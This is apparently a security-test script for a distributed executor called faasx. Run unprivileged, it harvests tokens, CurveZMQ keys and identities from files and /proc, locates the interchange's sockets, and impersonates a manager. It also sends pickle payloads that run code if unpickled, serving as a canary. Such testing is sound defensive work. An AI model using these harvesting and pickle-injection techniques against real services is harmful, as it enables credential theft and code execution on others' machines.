"""Another local user attacking a live faasx executor (run by ``test_attacker.py`` as ``nobody``).

What it does, as an unprivileged user on the same host could:

1. reads every file under the run directory it can, and every ``/proc/*/cmdline`` (and
   ``/proc/*/environ``, which the kernel only shows to the process's own user), collecting run tokens
   (32 hex digits), CurveZMQ keys and manager identities (they appear in worker log file names);
2. finds the endpoints the interchange listens on: TCP ports from ``/proc/net/tcp``/``tcp6``, Unix
   sockets (filesystem and abstract) from ``/proc/net/unix``;
3. on every endpoint, with every identity found (and a fresh one) and every token found (and none),
   connects a ZeroMQ DEALER and registers as a manager (with every CurveZMQ key pair it found, and in
   plain text); it answers any task it gets, and also sends unsolicited results for task ids 1..N,
   with a *canary*: a pickle that creates ``--canary`` if the client ever unpickles it.

The attack is scoped to one executor (``--scope-inodes``: the socket inodes of its interchange, which
the test, as root, reads from ``/proc/<pid>/fd``; ``--scope-dir``: identities only from processes of
its run directory), because other executors of other test runs share this machine.  Prints one JSON
report on stdout.  Needs only pyzmq and msgpack (faasx's wire format is read from the worktree).
"""
from __future__ import annotations

import argparse
import json
import os
import pickle
import re
import socket
import time
import uuid

import zmq

from faasx.executor import protocol as P

TOKEN_RE = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
KEY_RE = re.compile(rb'(public|secret)-key = "([^"]{40})"')
IDENTITY_RE = re.compile(rb"worker_([^/\s]+?)_\d+\.(?:log|out)")


class Canary:
    """Unpickling this creates the canary file: proof that the attacker ran code in the client."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


# ---- 1. harvest ------------------------------------------------------------------------------------
def read_all(path: str, limit: int = 1 << 20) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def harvest_run_dir(run_dir: str) -> dict:
    """Every file under the run directory that this user can read (and the ones it could list)."""
    readable, listed, texts = [], [], []
    for root, dirs, files in os.walk(run_dir):
        for name in files:
            path = os.path.join(root, name)
            listed.append(path)
            data = read_all(path)
            if data or os.access(path, os.R_OK):
                readable.append(path)
                texts.append(data)
    return {"listed": listed, "readable": readable, "texts": texts}


def harvest_proc(scope_dir: str) -> dict:
    """Command lines (and environments where readable) of every process."""
    texts, scoped, environ_readable = [], [], []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        cmdline = read_all(f"/proc/{pid}/cmdline").replace(b"\0", b" ")
        environ = read_all(f"/proc/{pid}/environ").replace(b"\0", b" ")
        texts += [cmdline, environ]
        if environ:
            environ_readable.append(pid)
        if scope_dir.encode() in cmdline or scope_dir.encode() in environ:
            scoped.append(cmdline + b" " + environ)
    return {"texts": texts, "scoped": scoped, "environ_readable": environ_readable}


def secrets_in(texts) -> dict:
    tokens, keys = set(), set()
    for text in texts:
        tokens.update(m.decode() for m in TOKEN_RE.findall(text))
        keys.update(m[1].decode() for m in KEY_RE.findall(text))
    return {"tokens": sorted(tokens), "keys": sorted(keys)}


def identities_in(texts) -> list:
    found = set()
    for text in texts:
        found.update(m.decode() for m in IDENTITY_RE.findall(text))
    return sorted(found)


# ---- 2. endpoints ----------------------------------------------------------------------------------
def _ip(hex_addr: str) -> str:
    raw = bytes.fromhex(hex_addr)
    if len(raw) == 4:
        return socket.inet_ntop(socket.AF_INET, raw[::-1])
    words = b"".join(raw[i:i + 4][::-1] for i in range(0, 16, 4))
    return socket.inet_ntop(socket.AF_INET6, words)


def tcp_listeners(inodes: set) -> list:
    found = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in read_all(table).decode().splitlines()[1:]:
            cols = line.split()
            if cols[3] != "0A" or cols[9] not in inodes:       # 0A: LISTEN
                continue
            hex_ip, hex_port = cols[1].split(":")
            ip = _ip(hex_ip)
            ip = {"0.0.0.0": "127.0.0.1", "::": "::1"}.get(ip, ip)
            found.append(f"tcp://{'[' + ip + ']' if ':' in ip else ip}:{int(hex_port, 16)}")
    return found


def unix_listeners(inodes: set) -> list:
    found = []
    for line in read_all("/proc/net/unix").decode().splitlines()[1:]:
        cols = line.split()
        if len(cols) < 8 or cols[6] not in inodes or cols[3] != "00010000":    # 00010000: listening
            continue
        found.append("ipc://" + cols[7])                    # '@name' is the abstract namespace
    return found


def can_connect(endpoint: str) -> str:
    """Whether the kernel lets this user connect at all ('ok' or the error)."""
    try:
        if endpoint.startswith("ipc://"):
            path = endpoint[6:]
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(1)
                s.connect("\0" + path[1:] if path.startswith("@") else path)
        else:
            host, port = endpoint[6:].rsplit(":", 1)
            with socket.create_connection((host.strip("[]"), int(port)), timeout=1):
                pass
        return "ok"
    except OSError as e:
        return f"{type(e).__name__}: {e}"


# ---- 3. attack -------------------------------------------------------------------------------------
def open_sockets(ctx, endpoints, identities, tokens, keys) -> list:
    """One DEALER per (endpoint, identity, token, key pair): plain text, then with any keys found."""
    socks = []
    key_pairs = [None] + [(k, s) for k in keys for s in keys if k != s][:20]
    for endpoint in endpoints:
        for identity in identities + [f"attacker-{uuid.uuid4().hex[:6]}"]:
            for token in tokens + [""]:
                for pair in key_pairs:
                    sock = ctx.socket(zmq.DEALER)
                    sock.setsockopt(zmq.LINGER, 0)
                    sock.setsockopt(zmq.IDENTITY, identity.encode())
                    sock.setsockopt(zmq.SNDTIMEO, 500)
                    if pair is not None:
                        sock.curve_serverkey = pair[0].encode()
                        sock.curve_publickey, sock.curve_secretkey = zmq.curve_keypair()
                    sock.connect(endpoint)
                    socks.append((sock, endpoint, identity, token))
    return socks


def send_registrations(socks, versions, canary_payload: bytes, max_tid: int, report: dict) -> None:
    """REGISTER on every socket, then unsolicited canary results for task ids 1..max_tid."""
    register = {"block_id": "attacker", "hostname": "attacker", "pid": os.getpid(), "workers": 64,
                "prefetch": 64, "versions": versions, "accelerators": [], "containers": False,
                "container_runtimes": []}
    tids = list(range(1, max_tid + 1))
    for sock, _, identity, token in socks:
        try:
            sock.send_multipart(P.pack(P.REGISTER, dict(register, manager_id=identity, token=token)))
            report["sent_register"] += 1
            sock.send_multipart(P.pack(P.RESULTS, [[t, P.OK] for t in tids], [canary_payload] * len(tids)))
            report["canaries_sent"] += len(tids)
        except zmq.ZMQError:
            pass


def answer(sock, endpoint: str, identity: str, canary_payload: bytes, report: dict) -> None:
    """One message from the interchange: count it; answer tasks with canaries."""
    try:
        msg_type, body, _ = P.unpack(sock.recv_multipart())
    except P.ProtocolError:
        return
    report["messages"].append([endpoint, identity, P.TYPE_NAMES.get(msg_type, str(msg_type))])
    if msg_type == P.REGISTERED:
        report["registered"] += 1
        sock.send_multipart(P.pack(P.HEARTBEAT, {"capacity": 128}))
    elif msg_type == P.REFUSED:
        report["refused"] += 1
    elif msg_type == P.TASKS:
        tids = [t[0] for t in body]
        report["tasks_received"] += len(tids)
        sock.send_multipart(P.pack(P.RESULTS, [[t, P.OK] for t in tids], [canary_payload] * len(tids)))
        report["canaries_sent"] += len(tids)


def attack(endpoints, identities, tokens, keys, versions, canary: str, seconds: float, max_tid: int) -> dict:
    ctx = zmq.Context()
    socks = open_sockets(ctx, endpoints, identities, tokens, keys)
    canary_payload = b"P" + pickle.dumps(Canary(canary))
    report = {"sockets": len(socks), "sent_register": 0, "registered": 0, "refused": 0, "tasks_received": 0,
              "canaries_sent": 0, "messages": []}
    send_registrations(socks, versions, canary_payload, max_tid, report)
    poller = zmq.Poller()
    where = {}
    for sock, endpoint, identity, _ in socks:
        poller.register(sock, zmq.POLLIN)
        where[sock] = (endpoint, identity)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for sock, _ in poller.poll(200):
            answer(sock, *where[sock], canary_payload, report)
    for sock, *_ in socks:
        sock.close(0)
    ctx.term()
    report["messages"] = report["messages"][:50]
    return report


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--run-dir", required=True)
    parser.add_argument("--scope-dir", required=True)
    parser.add_argument("--scope-inodes", required=True, help="comma-separated socket inodes")
    parser.add_argument("--versions", required=True, help="JSON: the versions to claim (they are not secret)")
    parser.add_argument("--canary", required=True)
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--max-tid", type=int, default=300)
    args = parser.parse_args()
    inodes = set(args.scope_inodes.split(","))
    files = harvest_run_dir(args.run_dir)
    procs = harvest_proc(args.scope_dir)
    found = secrets_in(files["texts"] + procs["texts"])
    identities = identities_in([p.encode() for p in files["listed"]] + procs["scoped"])
    endpoints = tcp_listeners(inodes) + unix_listeners(inodes)
    reach = {e: can_connect(e) for e in endpoints}
    result = attack(endpoints, identities, found["tokens"], found["keys"], json.loads(args.versions),
                    args.canary, args.seconds, args.max_tid)
    print(json.dumps({"uid": os.getuid(), "files_listed": files["listed"], "files_readable": files["readable"],
                      "environ_readable_pids": procs["environ_readable"][:20], "tokens": found["tokens"],
                      "keys": found["keys"], "identities": identities, "endpoints": reach, **result}))


if __name__ == "__main__":
    main()
